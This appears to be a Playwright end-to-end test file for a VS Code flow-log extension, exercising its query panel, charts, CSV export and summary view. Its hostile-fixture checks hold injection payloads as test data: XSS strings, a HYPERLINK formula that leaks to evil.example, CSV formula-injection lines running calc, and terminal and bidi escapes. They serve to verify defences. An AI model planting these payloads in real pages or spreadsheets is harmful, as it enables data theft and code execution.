// The query panel and the summary in real VS Code: palette and CodeLens, example queries, table rows and charts,
// a row click that moves the editor, a CSV export read back, summary totals against `flowlog query`, a reload
// that brings both back, the hostile fixture rendered as text, and screenshots in a dark and a light theme.
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ROOT, launchBrowser, makeSandbox, remoteUri, startServer } from './vscodeServer.mjs';
import { checks, goTo, openWorkbench, quickOpen, runCommand, writeBigFlowLog } from './ui.mjs';

const SHOTS = join(ROOT, 'test-results');

/** `flowlog query` on a file, through the built CLI (the same engine, outside the editor). */
function cli(file, query, format = 'json') {
  return execFileSync(process.execPath, [join(ROOT, 'dist/cli.js'), 'query', file, query, '--format', format], { encoding: 'utf8' });
}

/** The frame of our webview whose page is `view` ('query' or 'summary'), and with `name`, bound to that file. */
export async function webviewFrame(page, view, timeout = 30_000, name = undefined) {
  const deadline = Date.now() + timeout;
  while (Date.now() < deadline) {
    for (const f of page.frames()) {
      const found = await f.evaluate(([v, n]) => document.body?.dataset.view === v && !!document.getElementById('app')?.childElementCount &&
        (n === undefined || document.getElementById('target-name')?.textContent === n), [view, name]).catch(() => false);
      if (found) return f;
    }
    await page.waitForTimeout(250);
  }
  throw new Error(`no ${view} webview appeared${name === undefined ? '' : ` bound to ${name}`}\n${await describeWebviews(page)}`);
}

/** What the page holds of webviews, for a check that did not find its own: each frame's page, and the iframes. */
export async function describeWebviews(page) {
  const lines = [];
  for (const f of page.frames()) {
    if (f === page.mainFrame()) continue;
    const state = await f.evaluate(() => ({
      readyState: document.readyState,
      view: document.body?.dataset.view,
      app: document.getElementById('app')?.childElementCount,
      target: document.getElementById('target-name')?.textContent,
      body: document.body?.innerHTML.length,
    })).catch((e) => ({ error: String(e).split('\n')[0] }));
    lines.push(`frame ${f.name() || '(no name)'} ${f.url().replace(/\?.*/, '')}: ${JSON.stringify(state)}`);
  }
  const iframes = await page.evaluate(() => [...document.querySelectorAll('iframe')].map((i) => {
    const box = i.getBoundingClientRect();
    const host = i.closest('.webview') ?? i.parentElement;
    const style = host ? getComputedStyle(host) : undefined;
    return { id: i.id || i.name, src: i.src.replace(/\?.*/, ''), box: [box.x, box.y, box.width, box.height].map(Math.round), visibility: style?.visibility, display: style?.display };
  })).catch((e) => [String(e)]);
  for (const i of iframes) lines.push(`iframe ${JSON.stringify(i)}`);
  return lines.join('\n');
}

/**
 * Records how the page's webviews load (their service workers, their pages' console, the responses for the
 * bundle's files), with seconds since the call, for a check that did not find its webview: `lines()`.
 */
export function traceWebviewLoads(page) {
  const t0 = Date.now();
  const trace = [];
  const mark = (what) => trace.push(`${((Date.now() - t0) / 1000).toFixed(2)} ${what}`);
  const short = (url) => url.replace(/^https?:\/\/[^/]+/, '').replace(/\?.*/, '').slice(-70);
  page.on('console', (m) => {
    const where = m.location()?.url ?? '';
    if (/webview\/browser\/pre\/|\/dist\/webview\//.test(where)) mark(`console.${m.type()} ${short(where)}: ${m.text().slice(0, 400)}`);
  });
  page.on('pageerror', (e) => mark(`page error: ${e.message}`));
  page.on('response', (r) => {
    if (/\/dist\/webview\//.test(r.url())) mark(`${r.status()} ${short(r.url())}${r.fromServiceWorker() ? ' (service worker)' : ''}`);
  });
  page.on('requestfailed', (r) => {
    if (/\/dist\/webview\//.test(r.url())) mark(`failed ${short(r.url())}: ${r.failure()?.errorText}`);
  });
  page.context().on('serviceworker', (w) => mark(`service worker ${w.url().match(/[?&]id=[\w-]+/)?.[0] ?? short(w.url())}`));
  return { mark, lines: () => trace.join('\n') };
}

export const text = (frame, selector) => frame.locator(selector).first().innerText();

/**
 * The summary once it is final: a summary that takes longer than about a second draws its sections as they stand
 * first (`data-partial` on #summary, figures still growing), so a check that reads figures waits for the whole one.
 */
export const waitForFinalSummary = (summary, timeout = 30_000) => summary.locator('#summary:not([data-partial]) [data-figure="records"]').waitFor({ timeout });

/** Control and bidi characters, which the panels show as escapes (server/src/core/terminalText.ts). */
const CONTROL = /[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
const escapeControls = (v) => v.replace(new RegExp(CONTROL.source, 'g'), (c) => {
  const named = { '\t': '\\t', '\n': '\\n', '\r': '\\r' }[c];
  if (named) return named;
  const n = c.charCodeAt(0);
  return n <= 0xff ? `\\x${n.toString(16).padStart(2, '0')}` : `\\u${n.toString(16).padStart(4, '0')}`;
});

export async function waitForText(frame, selector, pattern, timeout = 30_000) {
  const deadline = Date.now() + timeout;
  let last = '';
  while (Date.now() < deadline) {
    last = await text(frame, selector).catch(() => '');
    if (pattern.test(last)) return last;
    await new Promise((r) => setTimeout(r, 200));
  }
  throw new Error(`${selector}: expected ${pattern}, last saw ${JSON.stringify(last)}`);
}

/** Runs an example query by its chip and waits for its status line. */
async function runExample(frame, label) {
  const before = await text(frame, '#status');
  await frame.click(`[data-example="${label}"]`);
  await waitForText(frame, '#status', /records scanned/);
  if (before && (await text(frame, '#status')) === before) await waitForText(frame, '#status', new RegExp(`^(?!${before.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$)`));
}

/** Switches the colour theme with the theme picker (Ctrl+K Ctrl+T) and waits for the workbench to repaint. */
async function selectTheme(page, name, workbenchClass) {
  // The picker lists the themes known when it opens, and they are known only once the theme extensions are read.
  for (let attempt = 1; ; attempt++) {
    await page.keyboard.press('Control+1');
    await page.keyboard.press('Control+K');
    await page.keyboard.press('Control+T');
    try {
      await page.locator('.quick-input-list .monaco-list-row', { hasText: name }).first().waitFor({ timeout: 3_000 });
      break;
    } catch (e) {
      if (attempt === 10) throw e;
      await page.keyboard.press('Escape');
      await page.waitForTimeout(1000);
    }
  }
  await page.keyboard.type(name);
  await page.locator('.quick-input-list .monaco-list-row.focused', { hasText: name }).waitFor({ timeout: 10_000 });
  await page.keyboard.press('Enter');
  await page.waitForSelector(`.monaco-workbench.${workbenchClass}`, { timeout: 20_000 });
}

export async function tableCells(frame) {
  return frame.locator('#results-table .vt-row:not([hidden])').evaluateAll((rows) => rows.map((r) => [...r.children].map((c) => c.firstChild?.textContent ?? '')));
}

/** Dialogs a page opens (dismissed, kept in `dialogs`) and Content Security Policy reports (kept in `cspErrors`). */
export function watchPage(page, dialogs, cspErrors) {
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('console', (m) => {
    if (/Content Security Policy|Refused to/i.test(m.text())) cspErrors.push(m.text());
  });
}

export async function runPanelChecks() {
  const sandbox = makeSandbox('panels');
  const good = join(sandbox.workspace, 'good.flowlog');
  const hostile = join(sandbox.workspace, 'hostile.flowlog');
  const big = join(sandbox.workspace, 'big.flowlog');
  await writeBigFlowLog(big);
  const server = await startServer(sandbox, { TZ: 'UTC' });
  const browser = await launchBrowser();
  const dialogs = [];
  const cspErrors = [];
  try {
    const page = await openWorkbench(browser, server, sandbox, [['extensionDevelopmentPath', remoteUri(server.port, ROOT)]]);
    watchPage(page, dialogs, cspErrors);
    let query;
    let summary;
    return await checks(page, [
      ['Flow Logs: Open Query Panel from the palette opens the panel bound to the flow log', async () => {
        await page.waitForSelector('.explorer-folders-view .monaco-list-row', { timeout: 30_000 });
        await selectTheme(page, 'Dark Modern', 'vs-dark');
        await quickOpen(page, 'good.flowlog');
        await page.waitForSelector('.statusbar-item[id="status.editor.mode"] >> text=Flow Log', { timeout: 30_000 });
        await runCommand(page, 'Flow Logs: Open Query Panel');
        await page.waitForSelector('.tab[aria-label*="Query: good.flowlog"]', { timeout: 20_000 });
        query = await webviewFrame(page, 'query');
        await waitForText(query, '#target-name', /^good\.flowlog$/);
      }],
      ['a query that does not parse is underlined where it goes wrong; field names complete', async () => {
        await query.fill('.qbox-input', 'action:REJECT AND dstprot:22');
        await query.locator('.qbox-error').waitFor({ timeout: 10_000 });
        const marked = await query.locator('.qbox-error').innerText();
        const problem = await text(query, '.qbox-problem');
        if (marked !== 'dstprot:22' || !/^1:19 .*did you mean dstport/.test(problem)) throw new Error(`underlined ${JSON.stringify(marked)}; message ${JSON.stringify(problem)}`);
        await page.screenshot({ path: join(SHOTS, '09-query-box-error.png') });
        await query.fill('.qbox-input', '');
        await query.type('.qbox-input', 'log-st');
        await query.locator('.qbox-suggest .qbox-item', { hasText: 'log-status' }).waitFor({ timeout: 5_000 });
        await query.press('.qbox-input', 'Tab');
        const completed = await query.locator('.qbox-input').inputValue();
        if (completed !== 'log-status') throw new Error(`completed to ${JSON.stringify(completed)}`);
      }],
      ['an example query fills the table with the records `flowlog query` finds', async () => {
        await runExample(query, 'Rejected traffic');
        const expected = JSON.parse(cli(good, 'action:REJECT'));
        const status = await text(query, '#status');
        if (!status.includes(`${expected.rows.length} matched`)) throw new Error(`status: ${status}; CLI matched ${expected.rows.length}`);
        const cells = await tableCells(query);
        if (cells.length !== expected.rows.length) throw new Error(`table has ${cells.length} rows, CLI ${expected.rows.length}`);
        const header = await query.locator('#results-table .vt-hcell').allInnerTexts();
        const srcCol = header.indexOf('srcaddr');
        if (cells[0][srcCol] !== expected.rows[0][srcCol]) throw new Error(`first srcaddr ${cells[0][srcCol]} vs ${expected.rows[0][srcCol]}`);
        // Decoded readings beside raw values: protocol 6 reads TCP.
        const protoCol = header.indexOf('protocol');
        const proto = await query.locator('#results-table .vt-row:not([hidden])').first().locator('.vt-cell').nth(protoCol).innerText();
        if (!/^6 TCP$/.test(proto.trim())) throw new Error(`protocol cell: ${proto}`);
      }],
      ['clicking a row (or Enter on it) moves the editor to that record', async () => {
        const expected = JSON.parse(cli(good, 'action:REJECT'));
        const line = expected.rows.at(-1).at(-1);
        await query.locator('#results-table .vt-row:not([hidden])').nth(expected.rows.length - 1).click();
        await page.locator('.statusbar-item[id="status.editor.selection"]', { hasText: `Ln ${line},` }).waitFor({ timeout: 20_000 });
        await page.waitForSelector('.tab.active[aria-label*="good.flowlog"]');
        // The keyboard does the same: Home, then Enter, opens the first row's record.
        await query.focus('#results-table .vt-viewport');
        await query.press('#results-table .vt-viewport', 'Home');
        await query.press('#results-table .vt-viewport', 'Enter');
        await page.locator('.statusbar-item[id="status.editor.selection"]', { hasText: `Ln ${expected.rows[0].at(-1)},` }).waitFor({ timeout: 20_000 });
      }],
      ['an aggregate example shows as a bar chart, a histogram as a time series', async () => {
        await runExample(query, 'Top rejected ports');
        await query.click('#show-chart');
        await query.locator('.bars .bar').first().waitFor({ timeout: 10_000 });
        const bars = await query.locator('.bars .bar-label').allInnerTexts();
        const expected = JSON.parse(cli(good, "action:REJECT | select dstport, service_name(dstport) as service, count(*) as records group by dstport order by records desc limit 20"));
        if (bars.length !== expected.rows.length || !bars[0].startsWith(String(expected.rows[0][0]))) throw new Error(`bars ${bars.join(', ')} vs ${JSON.stringify(expected.rows)}`);
        await page.screenshot({ path: join(SHOTS, '10-query-panel-bars-dark.png') });
        await runExample(query, 'Traffic per 5 minutes');
        await query.click('#show-chart');
        await query.locator('#results-chart .u-over').waitFor({ timeout: 10_000 });
        // Each series in its own unit: bytes in bytes, records a plain count, on a second axis.
        const legend = (await query.locator('#results-chart .u-legend .u-series').allInnerTexts()).map((t) => t.replace(/\s+/g, ' ').trim());
        const records = legend.find((t) => t.startsWith('records'));
        const bytes = legend.find((t) => t.startsWith('bytes'));
        if (!records || !/^records:? ?[\d,]+$/.test(records) || !bytes || !/B$/.test(bytes)) throw new Error(`legend: ${JSON.stringify(legend)}`);
        const axes = await query.locator('#results-chart .u-axis').count();
        if (axes !== 3) throw new Error(`${axes} axes: expected time, bytes and records`);
        // good.flowlog's buckets are months apart: each is drawn (as a point), so the bytes series' colour is on
        // the canvas (a line between isolated buckets had nothing to draw).
        const bytesPixels = await query.evaluate(() => {
          const hex = getComputedStyle(document.body).getPropertyValue('--vscode-charts-blue').trim();
          const m = /^#?([0-9a-f]{2})([0-9a-f]{2})([0-9a-f]{2})/i.exec(hex);
          if (!m) return -1;
          const [r, g, b] = [1, 2, 3].map((i) => parseInt(m[i], 16));
          const canvas = document.querySelector('#results-chart canvas');
          const data = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height).data;
          let n = 0;
          for (let i = 0; i < data.length; i += 4) if (data[i + 3] > 200 && Math.abs(data[i] - r) + Math.abs(data[i + 1] - g) + Math.abs(data[i + 2] - b) < 40) n++;
          return n;
        });
        if (bytesPixels < 20) throw new Error(`the bytes series left ${bytesPixels} pixels on the chart: its isolated buckets are not drawn`);
        await page.screenshot({ path: join(SHOTS, '11-query-panel-timeseries-dark.png') });
        await query.click('#show-table');
      }],
      ['Export CSV writes the result, which reads back equal to `flowlog query --format csv`', async () => {
        await runExample(query, 'Rejected traffic');
        // The save dialog proposes <log>-query.csv beside the log (never the log itself); accept it.
        const dest = join(sandbox.workspace, 'good.flowlog-query.csv');
        await query.click('#export-csv');
        // VS Code's own save dialog in the browser: a path box in the quick input.
        await page.locator('.quick-input-widget input').waitFor({ state: 'visible', timeout: 20_000 });
        await page.waitForFunction(() => document.querySelector('.quick-input-widget input')?.value.endsWith('good.flowlog-query.csv'), null, { timeout: 10_000 });
        await page.keyboard.press('Enter');
        const deadline = Date.now() + 20_000;
        while (!existsSync(dest) && Date.now() < deadline) await page.waitForTimeout(200);
        if (!existsSync(dest)) throw new Error('no CSV written');
        await page.waitForTimeout(300);
        const written = readFileSync(dest, 'utf8');
        const expected = cli(good, 'action:REJECT', 'csv');
        if (written !== expected) throw new Error(`CSV differs:\n${written}\n--- expected ---\n${expected}`);
      }],
      ['the CodeLens shows the counts; the status bar entry opens the summary, whose totals equal `flowlog query`', async () => {
        // A click on the editor's tab: the focus leaves the panel, so the editor is the active one again.
        await page.locator('.tab[aria-label*="good.flowlog"]:not([aria-label*="query"])').first().click();
        await page.waitForSelector('.statusbar-item[id="status.editor.mode"] >> text=Flow Log', { timeout: 30_000 });
        // The lens's text is in the DOM; it can sit scrolled out of view above line 1 when it arrives after the
        // editor has drawn, so its command (checked in the integration suite) is not clicked here: the status bar
        // entry opens the same summary.
        const lens = page.locator('.codelens-decoration', { hasText: 'Summary' }).first();
        await lens.waitFor({ state: 'attached', timeout: 30_000 });
        const counts = await lens.evaluate((e) => e.textContent);
        const [[records]] = JSON.parse(cli(good, '* | select count(*)')).rows;
        if (!counts.includes(`${records} records`)) throw new Error(`CodeLens: ${counts}`);
        const status = page.locator('.statusbar-item[id="flowlog-tools.vpc-flowlogs.flowlog.status"]', { hasText: `${records} records` });
        await status.waitFor({ timeout: 30_000 });
        await status.click();
        summary = await webviewFrame(page, 'summary');
        const figure = async (id) => (await text(summary, `[data-figure="${id}"] .figure-value`)).replace(/,/g, '');
        await waitForFinalSummary(summary);
        // The whole summary (a partial one may be drawn first, from the sections final before the rest).
        await summary.locator('#timing', { hasText: 'computed in' }).waitFor({ timeout: 30_000 });
        // Every section came to the page on its own too, before the whole summary (the server streams them).
        const arrived = await summary.evaluate(() => document.getElementById('summary').dataset.sectionsArrived);
        if (arrived !== '10') throw new Error(`${arrived} sections streamed to the page`);
        const [[n, packets, interfaces]] = JSON.parse(cli(good, '* | select count(*), sum(packets), count(distinct interface_id)')).rows;
        const [[rejects]] = JSON.parse(cli(good, 'action:REJECT | select count(*)')).rows;
        const seen = { records: await figure('records'), packets: await figure('packets'), interfaces: await figure('interfaces'), rejects: await figure('reject-records') };
        const want = { records: String(n), packets: String(packets), interfaces: String(interfaces), rejects: String(rejects) };
        if (JSON.stringify(seen) !== JSON.stringify(want)) throw new Error(`summary ${JSON.stringify(seen)} vs CLI ${JSON.stringify(want)}`);
        await summary.locator('#timeline-chart .u-over').waitFor({ timeout: 10_000 });
        await page.screenshot({ path: join(SHOTS, '12-summary-dark.png') });
      }],
      ['a bar in the summary opens the query panel with the search behind it', async () => {
        const first = summary.locator('[data-section="topSources"] .bar').first();
        const label = (await first.locator('.bar-label').innerText()).trim();
        await first.click();
        query = await webviewFrame(page, 'query');
        await query.waitForFunction((want) => document.querySelector('.qbox-input')?.value === want, `srcaddr:${label}`, { timeout: 20_000 });
        const [[n]] = JSON.parse(cli(good, `srcaddr:${label} | select count(*)`)).rows;
        await waitForText(query, '#status', new RegExp(`\\b${n} matched`));
      }],
      ['both panels come back after a window reload, with the query and its rows', async () => {
        const before = await query.locator('.qbox-input').inputValue();
        await runCommand(page, 'Developer: Reload Window');
        await page.waitForTimeout(1000);
        await page.waitForSelector('.monaco-workbench', { timeout: 60_000 });
        query = await webviewFrame(page, 'query', 60_000);
        await query.waitForFunction((want) => document.querySelector('.qbox-input')?.value === want, before, { timeout: 30_000 });
        await waitForText(query, '#status', /matched/);
        if ((await tableCells(query)).length === 0) throw new Error('no rows after reload');
        const tabs = await page.locator('.tab').allInnerTexts();
        if (!tabs.some((t) => t.includes('Summary: good.flowlog'))) throw new Error(`tabs after reload: ${tabs.join(' | ')}`);
      }],
      ['values from the hostile fixture render as plain text and run nothing', async () => {
        await page.keyboard.press('Control+1'); // open it in the first group, beside the panel
        await quickOpen(page, 'hostile.flowlog');
        query = await webviewFrame(page, 'query');
        await waitForText(query, '#target-name', /^hostile\.flowlog$/);
        await query.fill('.qbox-input', '*');
        await query.press('.qbox-input', 'Control+Enter');
        const expected = JSON.parse(cli(hostile, '*'));
        await waitForText(query, '#status', new RegExp(`\\b${expected.stats.matched} matched`));
        const cells = (await tableCells(query)).flat();
        // Every text value of the file is in the table as text; with control or bidi characters, as escapes.
        const values = [...new Set(expected.rows.flat().filter((v) => typeof v === 'string' && v !== hostile))];
        for (const v of values) {
          const shown = CONTROL.test(v) ? escapeControls(v) : v;
          if (!cells.includes(shown)) throw new Error(`cell text ${JSON.stringify(shown.slice(0, 80))} not shown as text`);
        }
        for (const s of ['<img/src=x/onerror=alert(1)>', '</script><script>alert(2)</script>', '![p](https://evil.example/r.png)', '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', '\\x1b]52;c;ZWNobyBwd25lZA==\\x07', 'vpc-\\u202egnp.exe']) {
          if (!cells.includes(s)) throw new Error(`${JSON.stringify(s)} not among the cells`);
        }
        if (cells.some((c) => CONTROL.test(c))) throw new Error('a control or bidi character reached a cell');
        const injected = await query.evaluate(() => document.querySelectorAll('#app img, #app script, #app svg, #app iframe, #app b, #app a').length);
        if (injected !== 0) throw new Error(`${injected} elements made from log values`);
        await page.screenshot({ path: join(SHOTS, '13-hostile-fixture.png') });
      }],
      ['the hostile fixture exported as CSV: equal to `flowlog query --format csv`, formulas neutralised', async () => {
        const dest = join(sandbox.workspace, 'hostile.flowlog-query.csv');
        await query.click('#export-csv');
        await page.locator('.quick-input-widget input').waitFor({ state: 'visible', timeout: 20_000 });
        await page.waitForFunction(() => document.querySelector('.quick-input-widget input')?.value.endsWith('hostile.flowlog-query.csv'), null, { timeout: 10_000 });
        await page.keyboard.press('Enter');
        const deadline = Date.now() + 20_000;
        while (!existsSync(dest) && Date.now() < deadline) await page.waitForTimeout(200);
        if (!existsSync(dest)) throw new Error('no CSV written');
        await page.waitForTimeout(300);
        const written = readFileSync(dest, 'utf8');
        const expected = cli(hostile, '*', 'csv');
        if (written !== expected) throw new Error(`CSV differs from the CLI's:\n${written.slice(0, 2000)}\n--- expected ---\n${expected.slice(0, 2000)}`);
        for (const cell of [`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`, `"'+cmd|'/Ccalc'!A0"`, `"'-2+3+cmd|'/Ccalc'!A0"`, `"'@SUM(1+1)*cmd|'/Ccalc'!A0"`, `"'\t=1+2"`]) {
          if (!written.includes(cell)) throw new Error(`CSV lacks the neutralised cell ${cell}`);
        }
        if (/(^|,)[=+@]|(^|,)-(?![\d.]*(,|\n))/m.test(written.replace(/"[^"]*"/g, '""'))) throw new Error('a live formula cell in the CSV');
      }],
      ['hovering a hostile value in the editor shows it as text: no image, no link', async () => {
        const lines = readFileSync(hostile, 'utf8').split('\n');
        const line = lines.findIndex((l) => l.includes(' ![p](https://evil.example/r.png) ') && l.includes(' ACCEPT OK '));
        await page.keyboard.press('Control+1');
        await quickOpen(page, 'hostile.flowlog');
        await goTo(page, line + 1, lines[line].indexOf('![p]') + 3);
        await page.keyboard.press('Control+K');
        await page.keyboard.press('Control+I');
        const hover = page.locator('.monaco-hover-content');
        await hover.getByText('![p](https://evil.example/r.png)', { exact: false }).first().waitFor({ timeout: 20_000 });
        await page.waitForTimeout(300);
        const made = await hover.evaluateAll((hs) => hs.reduce((n, h) => n + h.querySelectorAll('img, a[href*="evil"], script, svg, iframe').length, 0));
        if (made !== 0) throw new Error(`${made} elements made from a value in the hover`);
        // The reading of a record whose srcaddr is Markdown: its text, no image.
        const bad = lines.findIndex((l) => l.includes(' ![p](https://evil.example/r.png) ') && !l.includes(' ACCEPT OK '));
        await page.keyboard.press('Escape');
        await goTo(page, bad + 1, lines[bad].indexOf(' 51003 ') + 3);
        await page.keyboard.press('Control+K');
        await page.keyboard.press('Control+I');
        await hover.getByText('[![p](https://evil.example/r.png)]:51003', { exact: false }).first().waitFor({ timeout: 20_000 });
        const madeInReading = await hover.evaluateAll((hs) => hs.reduce((n, h) => n + h.querySelectorAll('img, a[href*="evil"]').length, 0));
        if (madeInReading !== 0) throw new Error(`${madeInReading} elements made from the reading`);
        await page.waitForTimeout(300);
        await page.screenshot({ path: join(SHOTS, '18-hostile-hover.png') });
        await page.keyboard.press('Escape');
      }],
      ['the summary of the hostile fixture: values as text, NULL not a talker, counted apart', async () => {
        await runCommand(page, 'Flow Logs: Show Summary');
        summary = await webviewFrame(page, 'summary', 30_000, 'hostile.flowlog');
        await waitForFinalSummary(summary);
        for (const section of ['topSources', 'topDestinations', 'topRejectedSources']) {
          const q = await summary.locator(`[data-section="${section}"] h2 .link`).getAttribute('title');
          const want = JSON.parse(cli(hostile, q)).rows.map((r) => (CONTROL.test(String(r[0])) ? escapeControls(String(r[0])) : String(r[0])));
          const labels = (await summary.locator(`[data-section="${section}"] .bar-label`).allInnerTexts()).map((t) => t.trim());
          if (JSON.stringify(labels) !== JSON.stringify(want)) throw new Error(`${section}: ${JSON.stringify(labels)} vs the CLI's ${JSON.stringify(want)}`);
          if (labels.includes('-')) throw new Error(`${section} lists NULL as a talker`);
        }
        const [[without]] = JSON.parse(cli(hostile, 'NOT srcaddr:* OR NOT dstaddr:* | select count(*)')).rows;
        const figure = (await text(summary, '[data-figure="without-addresses"] .figure-value')).replace(/,/g, '');
        if (figure !== String(without) || without === 0) throw new Error(`records without addresses: ${figure}, CLI ${without}`);
        const summaryInjected = await summary.evaluate(() => document.querySelectorAll('#app img, #app script, #app svg, #app iframe, #app b, #app a').length);
        if (summaryInjected !== 0) throw new Error(`${summaryInjected} elements made from log values in the summary`);
        await page.waitForTimeout(500);
        if (dialogs.length) throw new Error(`dialogs opened: ${dialogs.join(', ')}`);
        if (cspErrors.length) throw new Error(`CSP reports: ${cspErrors.join('\n')}`);
      }],
      ['on a file over 50 MB (never synced to extensions) the panel and the summary read it from disk', async () => {
        await page.keyboard.press('Control+1');
        await quickOpen(page, 'big.flowlog');
        await page.locator('.tab[aria-label*="Query: "]').click();
        query = await webviewFrame(page, 'query');
        await waitForText(query, '#target-name', /^big\.flowlog$/);
        await runExample(query, 'Top rejected ports');
        const expected = JSON.parse(cli(big, 'action:REJECT | select dstport, count(*) as records group by dstport order by records desc limit 20'));
        const status = await text(query, '#status');
        if (!status.startsWith('560,000 records scanned') || !status.includes(`${expected.rows[0][1].toLocaleString('en-US')} matched`)) throw new Error(`status: ${status}`);
        await runCommand(page, 'Flow Logs: Show Summary');
        const bigSummary = await webviewFrame(page, 'summary', 60_000, 'big.flowlog');
        await waitForFinalSummary(bigSummary, 60_000);
        const records = await text(bigSummary, '[data-figure="records"] .figure-value');
        if (records !== '560,000') throw new Error(`summary records: ${records}`);
        await page.screenshot({ path: join(SHOTS, '16-big-file-summary-dark.png') });
      }],
      ['a search of the 54 MB file keeps 100,000 rows in the virtual table, and End reaches the last of them', async () => {
        await page.locator('.tab[aria-label*="Query: "]').click();
        query = await webviewFrame(page, 'query', 30_000, 'big.flowlog');
        await query.fill('.qbox-input', 'action:ACCEPT');
        await query.press('.qbox-input', 'Control+Enter');
        await waitForText(query, '#status', /559,440 matched \(first 100,000 shown\)/, 60_000);
        // The line of the 100,000th ACCEPT record, read from the file itself.
        let seen = 0;
        let lastLine = 0;
        readFileSync(big, 'utf8').split('\n').some((l, i) => {
          if (l.includes(' ACCEPT ')) seen++;
          lastLine = i + 1;
          return seen === 100_000;
        });
        // Scroll through all of it, frame by frame, as a person dragging the scrollbar would; count the rows in the DOM.
        const scroll = await query.evaluate(async () => {
          const v = document.querySelector('#results-table .vt-viewport');
          const frames = [];
          let last = performance.now();
          for (let k = 1; k <= 60; k++) {
            v.scrollTop = (v.scrollHeight * k) / 60;
            await new Promise((r) => requestAnimationFrame(() => r()));
            const now = performance.now();
            frames.push(now - last);
            last = now;
          }
          return { rowsInDom: document.querySelectorAll('#results-table .vt-row').length, slowestFrameMs: Math.round(Math.max(...frames)) };
        });
        console.log(`    (100,000 rows: ${scroll.rowsInDom} row elements in the page; slowest of 60 scroll frames ${scroll.slowestFrameMs} ms)`);
        if (scroll.rowsInDom > 200) throw new Error(`${scroll.rowsInDom} row elements: the table is not virtual`);
        await query.focus('#results-table .vt-viewport');
        await query.press('#results-table .vt-viewport', 'End');
        await query.locator('#results-table .vt-row.vt-cursor').waitFor({ timeout: 10_000 }); // drawn on the next frame
        const cursorRow = await query.locator('#results-table .vt-row.vt-cursor .vt-cell').allInnerTexts();
        if (cursorRow.at(-1) !== String(lastLine)) throw new Error(`last row's line ${cursorRow.at(-1)}, expected ${lastLine}`);
      }],
      ['screenshots of the panel and the summary in a light theme (and the summary in high contrast)', async () => {
        await selectTheme(page, 'Light Modern', 'vs');
        await page.locator('.tab[aria-label*="Summary: good.flowlog"]').click();
        summary = await webviewFrame(page, 'summary', 30_000, 'good.flowlog');
        await summary.locator('#timeline-chart .u-over').waitFor({ timeout: 30_000 });
        await page.waitForTimeout(500);
        await page.screenshot({ path: join(SHOTS, '14-summary-light.png') });
        await page.locator('.tab[aria-label*="Query: "]').click();
        query = await webviewFrame(page, 'query');
        await runExample(query, 'Top talkers by bytes');
        await query.click('#show-chart');
        await query.locator('.bars .bar').first().waitFor({ timeout: 10_000 });
        await page.screenshot({ path: join(SHOTS, '15-query-panel-light.png') });
        await selectTheme(page, 'Dark High Contrast', 'hc-black');
        await page.locator('.tab[aria-label*="Summary: good.flowlog"]').click();
        // Shown again (after a reload, a hidden panel's page may have been reloaded too): the summary is back.
        const again = await webviewFrame(page, 'summary', 30_000, 'good.flowlog');
        await waitForText(again, '[data-figure="records"] .figure-value', /^6$/);
        await page.waitForTimeout(500);
        await page.screenshot({ path: join(SHOTS, '17-summary-high-contrast.png') });
      }],
    ]);
  } finally {
    await browser.close();
    server.stop();
  }
}
